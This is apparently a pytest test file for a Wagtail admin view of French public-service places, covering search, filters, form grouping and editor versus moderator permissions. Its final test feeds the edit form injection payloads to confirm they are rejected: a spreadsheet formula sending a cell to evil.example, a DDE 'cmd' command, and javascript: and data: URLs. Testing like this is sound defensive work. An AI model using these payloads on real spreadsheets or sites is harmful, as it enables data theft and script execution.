"""The places viewset in Wagtail's admin: listing, search, filters, grouped form, permissions."""

import datetime
import io

import pytest
from django.contrib.auth.models import Group, Permission
from django.utils import timezone

from accounts.roles import EDITORS_GROUP_NAME, GLOBAL_PERMISSIONS, MODERATORS_GROUP_NAME
from places.importer import import_places
from places.models import Place
from tests.places.conftest import csv_bytes, make_row

pytestmark = pytest.mark.django_db


def member_of(django_user_model, group_name):
    group, _ = Group.objects.get_or_create(name=group_name)
    for app_label, codename in GLOBAL_PERMISSIONS[group_name]:
        group.permissions.add(Permission.objects.get(content_type__app_label=app_label, codename=codename))
    user = django_user_model.objects.create_user(f"user-{group_name}", password="x")
    user.groups.add(group)
    return user


@pytest.fixture
def places(db):
    rows = [
        make_row(1, nom="Médiathèque José Cabanis", source="Hubik"),
        make_row(
            2,
            nom="Espace numérique de Cahors",
            commune="Cahors",
            code_postal="46000",
            code_insee="46042",
            services="Aide aux démarches administratives",
            source="Conseil départemental du Lot",
        ),
    ]
    import_places(io.BytesIO(csv_bytes(rows)))
    Place.objects.filter(standard_id="lieu-1").update(date_maj=timezone.localdate() - datetime.timedelta(days=30))
    Place.objects.filter(standard_id="lieu-2").update(date_maj=timezone.localdate() - datetime.timedelta(days=400))
    return {place.standard_id: place for place in Place.objects.all()}


@pytest.fixture
def moderator_client(client, django_user_model):
    client.force_login(member_of(django_user_model, MODERATORS_GROUP_NAME))
    return client


LISTING = "/admin/lieux/"


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("", {"Médiathèque José Cabanis", "Espace numérique de Cahors"}),
        ("?q=Cahors", {"Espace numérique de Cahors"}),
        ("?q=31000", {"Médiathèque José Cabanis"}),
        ("?departement=46", {"Espace numérique de Cahors"}),
        ("?service=Aide+aux+d%C3%A9marches+administratives", {"Espace numérique de Cahors"}),
        ("?source=Hubik", {"Médiathèque José Cabanis"}),
        ("?stale=true", {"Espace numérique de Cahors"}),
        ("?stale=false", {"Médiathèque José Cabanis"}),
    ],
)
def test_listing_search_and_filters_for_a_moderator(moderator_client, places, query, expected):
    response = moderator_client.get(LISTING + query)
    assert response.status_code == 200
    shown = {place.nom for place in response.context["object_list"]}
    assert shown == expected
    assert "Données de plus de 12 mois" in response.content.decode()


def test_edit_form_groups_fields_and_uses_checkboxes(moderator_client, places):
    response = moderator_client.get(f"/admin/lieux/edit/{places['lieu-1'].pk}/")
    assert response.status_code == 200
    html = response.content.decode()
    for heading in ("Identification", "Adresse et localisation", "Contact", "Services et accompagnement"):
        assert heading in html
    assert 'type="checkbox" name="services" value="Aide aux démarches administratives"' in html


def _form_data(place, **changes):
    data = {
        name: getattr(place, name)
        for name in ("standard_id", "pivot", "nom", "adresse", "code_postal", "commune", "code_insee", "source")
    }
    data.update(
        date_maj="2025-01-15",
        services=["Aide aux démarches administratives", "Accès internet et matériel informatique"],
    )
    data.update(typologie="ASSO|CCAS", slug=place.slug)
    data.update(changes)
    return data


def test_a_hand_edit_is_checked_against_the_standard_and_saved(moderator_client, places):
    place = places["lieu-1"]
    url = f"/admin/lieux/edit/{place.pk}/"
    response = moderator_client.post(url, _form_data(place, pivot="12", telephone="05 61"))
    assert response.status_code == 200
    errors = response.context["form"].errors
    assert set(errors) == {"pivot", "telephone"}
    response = moderator_client.post(url, _form_data(place, slug="export"))
    assert "réservé" in str(response.context["form"].errors["slug"])
    response = moderator_client.post(url, _form_data(place, nom="Médiathèque Cabanis"))
    assert response.status_code == 302
    place.refresh_from_db()
    assert place.nom == "Médiathèque Cabanis" and place.typologie == ["ASSO", "CCAS"]
    assert place.services == ["Aide aux démarches administratives", "Accès internet et matériel informatique"]
    assert place.departement == "31"


def test_editors_can_view_but_not_change(client, django_user_model, places):
    client.force_login(member_of(django_user_model, EDITORS_GROUP_NAME))
    assert client.get(LISTING).status_code == 200
    assert client.get(f"/admin/lieux/inspect/{places['lieu-1'].pk}/").status_code == 200
    assert client.get(f"/admin/lieux/edit/{places['lieu-1'].pk}/").status_code in (302, 403)
    assert client.get("/admin/lieux/new/").status_code in (302, 403)


@pytest.mark.parametrize("query", ["?service=Jardinage", "?departement=%3Cscript%3E", "?stale=peut-etre", "?p=9999"])
def test_invalid_filters_never_fail(moderator_client, places, query):
    assert moderator_client.get(LISTING + query).status_code in (200, 404)


def test_a_hand_edit_cannot_store_a_spreadsheet_formula_or_a_script_address(moderator_client, places):
    place = places["lieu-1"]
    url = f"/admin/lieux/edit/{place.pk}/"
    changes = {
        "nom": '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
        "source": "@SUM(1+1)*cmd|' /C calc'!A0",
        "presentation_detail": "\t=1+1",
        "site_web": "https://www.exemple.fr/|javascript:alert(1)",
        "prise_rdv": "javascript:alert(1)",
        "fiche_acces_libre": "data:text/html,x",
    }
    response = moderator_client.post(url, _form_data(place, **changes))
    assert response.status_code == 200
    errors = response.context["form"].errors
    assert set(errors) == set(changes)
    assert "formule" in str(errors["nom"]) and "http:// ou https://" in str(errors["prise_rdv"])
    place.refresh_from_db()
    assert place.nom == "Médiathèque José Cabanis" and place.prise_rdv.startswith("https://")
    response = moderator_client.post(
        url, _form_data(place, telephone="+33561000000", longitude="-1.44367", latitude="43.6")
    )
    assert response.status_code == 302
    place.refresh_from_db()
    assert (place.telephone, place.longitude) == ("+33561000000", -1.44367)
